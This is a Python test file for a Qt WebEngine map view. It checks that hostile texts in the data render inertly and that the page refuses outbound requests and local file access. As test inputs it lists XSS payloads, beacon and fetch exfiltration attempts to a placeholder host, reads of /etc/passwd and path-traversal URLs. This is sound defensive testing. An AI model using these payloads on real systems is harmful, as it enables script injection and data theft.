"""What hostile data and a hostile page achieve in the map of the window: nothing."""

import pytest
from PySide6.QtTest import QTest
from PySide6.QtWebEngineCore import QWebEngineScript

from gui.map.map_view import MapView
from tests.gui.map.looking import ask, shown, wait_until
from tests.hostile_day import hostile_day
from tests.hostile_texts import HOSTILE
from tests.maps.made_up_plan import PlannedDay

TRAP = "window.caught = []; window.PWN = (what) => window.caught.push(what);"

SCRIPT = "document.body.append(Object.assign(document.createElement('script')"

SHOW_EVERY_NOTE = """(() => {
  const things = [...windowMap.layer.drawn.marks, ...windowMap.layer.drawn.routes];
  return things.map((thing) => {
    windowMap.note.show(thing, L.point(100, 100));
    return [...document.querySelectorAll('.note span')].map((part) => part.textContent);
  });
})()"""


@pytest.fixture
def trapped_map(own_map: MapView) -> MapView:
    """A map whose page tells when anything runs that should not."""
    trap = QWebEngineScript()
    trap.setSourceCode(TRAP)
    trap.setInjectionPoint(QWebEngineScript.InjectionPoint.DocumentCreation)
    trap.setWorldId(QWebEngineScript.ScriptWorldId.MainWorld)
    own_map._page.scripts().insert(trap)
    own_map.ask(TRAP, lambda _: None)
    return own_map


def test_hostile_texts_are_shown_and_run_nothing(trapped_map: MapView) -> None:
    day = hostile_day()
    scripts = ask(trapped_map, "document.scripts.length")
    trapped_map.show_plan(day.plan, day.dataset)
    shown(trapped_map)
    notes = ask(trapped_map, SHOW_EVERY_NOTE)
    words = [part for note in notes for part in note]
    for text in HOSTILE.values():
        line = " ".join(text.split())
        expected = line if len(line) <= 80 else f"{line[:79]}…"
        assert any(_as_shown(expected) == _as_shown(word) for word in words), text
    trapped_map.show_orders(day.dataset, day.dataset.orders)
    shown(trapped_map)
    ask(trapped_map, SHOW_EVERY_NOTE)
    assert ask(trapped_map, "window.caught") == []
    assert ask(trapped_map, "document.scripts.length") == scripts
    assert ask(trapped_map, "document.querySelectorAll('img:not(.leaflet-tile)').length") == 0
    assert trapped_map.blocked_requests() == ()


def test_hostile_ids_are_told_as_they_are(trapped_map: MapView) -> None:
    day = hostile_day()
    trapped_map.show_plan(day.plan, day.dataset)
    shown(trapped_map)
    found: list[tuple[str, str, bool]] = []
    trapped_map.stop_clicked.connect(lambda *ids: found.append(ids))
    for i in range(len(day.plan.routes)):
        ask(trapped_map, f"void windowMap.bridge.click(windowMap.turn, 'stop', {i}, 0)")
    wait_until(lambda: len(found) == len(HOSTILE))
    # Qt's texts hold no half of a pair of characters.
    texts = [text.encode("utf-8", "ignore").decode() for text in HOSTILE.values()]
    assert found == [(text, text, False) for text in texts]


@pytest.mark.parametrize(
    "attempt",
    [
        "fetch('https://example.test/a')",
        "new Image().src = 'http://example.test/b.png'",
        "new WebSocket('wss://example.test/c')",
        "navigator.sendBeacon('https://example.test/d', 'x')",
        "fetch('file:///etc/passwd')",
        f"{SCRIPT}, {{src: 'ftp://example.test/e.js'}}))",
        f"{SCRIPT}, {{textContent: 'PWN(1)'}}))",
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"x:\" onerror=\"PWN(2)\">')",
        "window.open('https://example.test/f')",
        "location.href = 'https://example.test/g'",
    ],
)
def test_whatever_leaves_the_page_is_refused_and_counted(shared_map: MapView, attempt: str) -> None:
    shared_map.ask(TRAP, lambda _: None)
    before = len(shared_map.blocked_requests())
    shared_map.ask(f"try {{ {attempt} }} catch (error) {{}}", lambda _: None)
    if not attempt.startswith("window.open"):
        wait_until(lambda: len(shared_map.blocked_requests()) > before)
    assert ask(shared_map, "window.caught") == []
    assert ask(shared_map, "location.href") == "app://page/"


def test_files_are_not_even_asked_for(shared_map: MapView) -> None:
    frame = "document.createElement('iframe')"
    ask(
        shared_map,
        f"void document.body.append(Object.assign({frame}, {{src: 'file:///etc/passwd'}}))",
    )
    ask(shared_map, "void (location.href = 'file:///etc/passwd')")
    QTest.qWait(200)
    assert ask(shared_map, "location.href") == "app://page/"
    assert (
        ask(shared_map, "document.querySelector('iframe').contentDocument?.body?.textContent || ''")
        == ""
    )


@pytest.mark.parametrize(
    "address",
    [
        "app://tiles/1/light/14/../../../../etc/passwd",
        "app://tiles/1/light/14/8586/5598.png?x=1",
        "app://tiles/1/light/14/8586/5598.jpg",
        "app://tiles/1/light/99/8586/5598.png",
        "app://tiles/1/light/14/99999/5598.png",
        "app://tiles/77/light/14/8586/5598.png",
        "app://tiles/1/pink/14/8586/5598.png",
        "app://map/../main.py",
        "app://map/window_map.css/",
        "app://leaflet/images/layers.png",
        "app://page/etc/passwd",
    ],
)
def test_no_address_but_those_known_has_an_answer(shared_map: MapView, address: str) -> None:
    assert _picture_width(shared_map, address) == 0


def test_a_tile_has_an_answer(shared_map: MapView, day: PlannedDay) -> None:
    number = shared_map._roads_number
    assert _picture_width(shared_map, f"app://tiles/{number}/light/14/8586/5598.png") == 256
    assert _picture_width(shared_map, f"app://tiles/{number}/dark/14/8586/5598@2x.png") == 512


def _picture_width(view: MapView, address: str) -> int:
    """How wide the picture of an address is; 0 where there is none."""
    ask(
        view,
        f"""void (() => {{
          window.pictureWidth = null;
          const picture = new Image();
          picture.onload = () => {{ window.pictureWidth = picture.naturalWidth; }};
          picture.onerror = () => {{ window.pictureWidth = 0; }};
          picture.src = {address!r};
        }})()""",
    )
    wait_until(lambda: ask(view, "window.pictureWidth") is not None)
    width: int = ask(view, "window.pictureWidth")
    return width


def _as_shown(text: str) -> str:
    """A text without what a page cannot hold: half of a pair of characters."""
    return text.encode("utf-8", "replace").decode().replace("\ufffd", "?")
